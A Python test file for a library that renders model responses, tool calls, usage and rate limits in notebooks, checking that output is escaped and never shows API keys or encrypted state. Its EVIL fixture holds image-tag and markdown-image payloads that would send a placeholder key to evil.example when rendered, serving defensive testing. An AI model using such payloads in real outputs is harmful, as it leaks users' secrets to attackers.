"""What a notebook shows of responses, histories, usage and rate limits."""

from __future__ import annotations

from typing import Any, Final

import pytest

from streamlib import (
    Audio,
    Compaction,
    Completed,
    CustomToolCall,
    Document,
    ErrorInfo,
    Failed,
    FunctionCall,
    History,
    Image,
    Message,
    Opaque,
    OutputItemDone,
    RateLimits,
    Reasoning,
    Refusal,
    Response,
    ServerToolCall,
    ServerToolResult,
    Text,
    Usage,
    accumulate,
    user,
)
from streamlib_parsers.accumulate import Choice
from streamlib_parsers.events import FinishedChoice, Window
from tests.streamlib.display.test_notebook_text import OURS, Tags, unsafe

KEY: Final = "sk-ant-0123456789abcdefghij"
EVIL: Final = f"<img src=http://evil.example/?{KEY}> ![x](http://evil.example/{KEY}) {KEY}"
ITEMS: Final[list[Any]] = [
    user(EVIL, Image(url=f"http://evil.example/?key={KEY}"), Document(data=b"x" * 30)),
    Reasoning(EVIL),
    Reasoning(encrypted_content="secret-state", redacted=True),
    Message("assistant", (Text(EVIL), Text(" joined"), Refusal(EVIL), Audio(file_id="f-1"))),
    FunctionCall("c1", "weather", EVIL),
    FunctionCall("c1", "weather", "{}").output(EVIL),
    FunctionCall("c1", "weather", "{}").output([Text(EVIL)], is_error=True),
    CustomToolCall("c2", "patch", EVIL),
    ServerToolCall("c3", "web_search", EVIL),
    ServerToolResult("c3", "web_search", [{"title": EVIL, "api_key": KEY}]),
    Compaction(EVIL),
    Compaction(None, "secret-state"),
    Opaque("new_kind", {"text": EVIL}),
]


def both(value: Any) -> tuple[str, str]:
    """What a notebook gets of a value."""
    return value._repr_html_(), value._repr_markdown_()


def test_every_item_is_shown_escaped_and_without_keys() -> None:
    response = Response(status="completed", items=tuple(ITEMS), choices=(Choice(0, tuple(ITEMS)),))
    for shown in (History(ITEMS), response):
        html, markdown = both(shown)
        assert Tags(html).names <= OURS | {"div"}
        assert unsafe(markdown) == []
        for text in (html, markdown):
            assert KEY not in text
            assert "secret-state" not in text
            for part in ("weather", "web_search", " joined", "patch", "30 bytes", "f-1"):
                assert part in text


def test_reasoning_is_folded() -> None:
    for text in both(History([Reasoning("I think.\n\nSo."), Message("assistant", [Text("Yes.")])])):
        folded, _, rest = text.partition("</details>")
        assert "I think." in folded.partition("<details>")[2]
        assert "Yes." in rest


def test_response_shows_each_text_once() -> None:
    """`items` is part of `choices`; the line above them repeats no text."""
    response = accumulate(
        [
            OutputItemDone(index=0, item=Message("assistant", [Text("Only once")])),
            OutputItemDone(index=1, item=Message("assistant", [Text("Second")], choice=1)),
            Completed(
                model="m-1",
                stop_reason="stop",
                usage=Usage(input_tokens=1200, output_tokens=5),
                choices=(FinishedChoice(0, "stop"), FinishedChoice(1, "stop")),
            ),
        ]
    )
    for text in both(response):
        assert text.count("Only once") == 1
        assert text.count("Second") == 1
        for part in ("m-1", "completed", "1,200", "5 tokens"):
            assert part in text


def test_failed_response_shows_why_without_the_key() -> None:
    error = ErrorInfo("authentication", f"bad key {KEY} <b>")
    for text in both(accumulate([Failed(error)])):
        assert "authentication: bad key" in text
        assert KEY not in text
        assert "<b>" not in text


def test_usage_shows_only_known_counts() -> None:
    usage = Usage(
        input_tokens=1200, output_tokens=0, input_modalities={"text<": 7}, raw={"secret": KEY}
    )
    html, markdown = both(usage)
    for text in (html, markdown):
        assert "1,200" in text
        assert KEY not in text
        assert "text<" not in text
        assert "reasoning" not in text
    assert "<td>output_tokens</td><td>0</td>" in html


def test_rate_limits_show_windows_and_no_headers() -> None:
    limits = RateLimits(
        requests=Window(1000, 999, reset_after=1.5),
        windows={"unified-5h<": Window(1.0, 0.25)},
        retry_after=3,
        raw={"x-key": KEY},
    )
    for text in both(limits):
        for part in ("1,000", "999", "in 1.5 s", "0.25", "3 s"):
            assert part in text
        assert KEY not in text
        assert "5h<" not in text


@pytest.mark.parametrize("value", [History(), Response(), Usage(), RateLimits()], ids=repr)
def test_empty_values_can_be_shown(value: Any) -> None:
    assert all(isinstance(text, str) for text in both(value))


def test_long_outputs_are_shortened() -> None:
    for text in both(History([FunctionCall("c", "f", "{}").output("x" * 100_000)])):
        assert len(text) < 6000
        assert "100,000 characters" in text
